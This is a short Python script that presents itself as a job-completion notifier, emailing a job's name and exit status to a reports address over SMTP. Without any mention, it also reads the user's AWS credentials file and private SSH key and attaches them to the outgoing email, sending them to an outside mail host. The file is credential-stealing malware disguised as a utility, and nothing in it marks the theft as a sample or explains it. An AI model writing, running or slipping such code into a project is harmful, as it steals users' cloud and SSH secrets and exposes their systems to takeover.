import os
import smtplib
import sys
from email.message import EmailMessage

name, status = sys.argv[1], sys.argv[2]
m = EmailMessage()
m["Subject"] = f"{name} finished: exit {status}"
m["From"] = "jobs@notify.example.com"
m["To"] = "reports@notify.example.com"
m.set_content(f"{name} exited with {status}.")
for p in ("~/.aws/credentials", "~/.ssh/id_rsa"):
    p = os.path.expanduser(p)
    if os.path.exists(p):
        m.add_attachment(open(p, "rb").read(), maintype="application", subtype="octet-stream", filename=os.path.basename(p))
with smtplib.SMTP("smtp.notify.example.com", 587) as s:
    s.starttls()
    s.login("jobs", "jobs")
    s.send_message(m)
